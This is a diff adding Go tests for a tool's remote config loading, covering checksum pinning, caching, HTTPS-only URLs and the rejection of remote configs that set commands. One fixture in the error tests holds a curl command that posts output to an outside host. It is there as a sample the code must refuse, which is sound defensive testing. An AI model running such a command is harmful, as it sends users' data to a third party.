@@ -0,0 +1,139 @@
+package cmd
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"testing"
+)
+
+// serveRemote serves files over HTTPS and makes the default transport trust
+// the server. It returns the base URL and the number of requests served.
+func serveRemote(t *testing.T, files map[string]string) (string, *int) {
+	t.Helper()
+	requests := new(int)
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		*requests++
+		content, ok := files[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write([]byte(content))
+	}))
+	t.Cleanup(server.Close)
+
+	transport := http.DefaultTransport
+	http.DefaultTransport = server.Client().Transport
+	t.Cleanup(func() { http.DefaultTransport = transport })
+	return server.URL, requests
+}
+
+func TestResolveRemoteConfig(t *testing.T) {
+	isolateConfig(t)
+	const base = "author: Base Author\nlanguage: fr\nvars:\n  edition: First\n  press: Harbour\n"
+	const theme = "body { font-family: serif; }\n"
+	url, requests := serveRemote(t, map[string]string{"/base.yaml": base, "/theme.css": theme})
+
+	settings := map[string]any{
+		"author": "Local Author",
+		"vars":   map[string]any{"edition": "Second"},
+		"extends": []any{
+			map[string]any{"url": url + "/base.yaml", "sha256": checksum([]byte(base))},
+		},
+		"theme": map[string]any{"url": url + "/theme.css", "sha256": checksum([]byte(theme))},
+	}
+	got, err := resolveRemoteConfig(settings)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got["author"] != "Local Author" || got["language"] != "fr" {
+		t.Errorf("resolveRemoteConfig() = %v, want local keys over the base config", got)
+	}
+	vars, _ := got["vars"].(map[string]any)
+	if vars["edition"] != "Second" || vars["press"] != "Harbour" {
+		t.Errorf("vars = %v, want maps merged key by key", vars)
+	}
+	css, _ := got["css"].(string)
+	if content, err := os.ReadFile(css); err != nil || string(content) != theme {
+		t.Errorf("css = %s (%v), want the cached theme", css, err)
+	}
+
+	// The cached copies are used afterwards
+	if _, err := resolveRemoteConfig(settings); err != nil {
+		t.Fatal(err)
+	}
+	if *requests != 2 {
+		t.Errorf("remote files were requested %d times, want 2", *requests)
+	}
+}
+
+func TestResolveRemoteConfigErrors(t *testing.T) {
+	isolateConfig(t)
+	const nested = "extends:\n  url: https://example.org/other.yaml\n  sha256: " + "0000000000000000000000000000000000000000000000000000000000000000\n"
+	const commands = "author: Base\nexec:\n  - curl https://example.org/collect -d @{output}\n"
+	const profileCommands = "profiles:\n  strict:\n    rule-exec: [./check.sh]\n"
+	url, _ := serveRemote(t, map[string]string{
+		"/base.yaml":     "author: Base\n",
+		"/nested.yaml":   nested,
+		"/commands.yaml": commands,
+		"/profile.yaml":  profileCommands,
+	})
+
+	tests := []struct {
+		name     string
+		settings map[string]any
+		err      string
+	}{
+		{
+			name:     "changed remote file",
+			settings: map[string]any{"extends": map[string]any{"url": url + "/base.yaml", "sha256": checksum([]byte("author: Other\n"))}},
+			err:      "checksum of " + url + "/base.yaml is " + checksum([]byte("author: Base\n")),
+		},
+		{
+			name:     "missing remote file",
+			settings: map[string]any{"extends": map[string]any{"url": url + "/missing.yaml", "sha256": checksum(nil)}},
+			err:      "unexpected status 404",
+		},
+		{
+			name:     "remote configs extending others",
+			settings: map[string]any{"extends": map[string]any{"url": url + "/nested.yaml", "sha256": checksum([]byte(nested))}},
+			err:      "cannot extend other configs",
+		},
+		{
+			name:     "remote configs running commands",
+			settings: map[string]any{"extends": map[string]any{"url": url + "/commands.yaml", "sha256": checksum([]byte(commands))}},
+			err:      "cannot set exec",
+		},
+		{
+			name:     "remote profiles running commands",
+			settings: map[string]any{"extends": map[string]any{"url": url + "/profile.yaml", "sha256": checksum([]byte(profileCommands))}},
+			err:      "cannot set profiles.strict.rule-exec",
+		},
+		{
+			name:     "plain http",
+			settings: map[string]any{"extends": map[string]any{"url": "http://example.org/base.yaml", "sha256": checksum(nil)}},
+			err:      "must have an https url",
+		},
+		{
+			name:     "missing checksum",
+			settings: map[string]any{"extends": map[string]any{"url": url + "/base.yaml"}},
+			err:      "must be pinned with a sha256 checksum",
+		},
+		{
+			name:     "several themes",
+			settings: map[string]any{"theme": []any{map[string]any{"url": url + "/a.css", "sha256": checksum(nil)}, map[string]any{"url": url + "/b.css", "sha256": checksum(nil)}}},
+			err:      "must name a single stylesheet",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := resolveRemoteConfig(tt.settings)
+			if err == nil || !strings.Contains(err.Error(), tt.err) {
+				t.Errorf("resolveRemoteConfig() error = %v, want %s", err, tt.err)
+			}
+		})
+	}
+}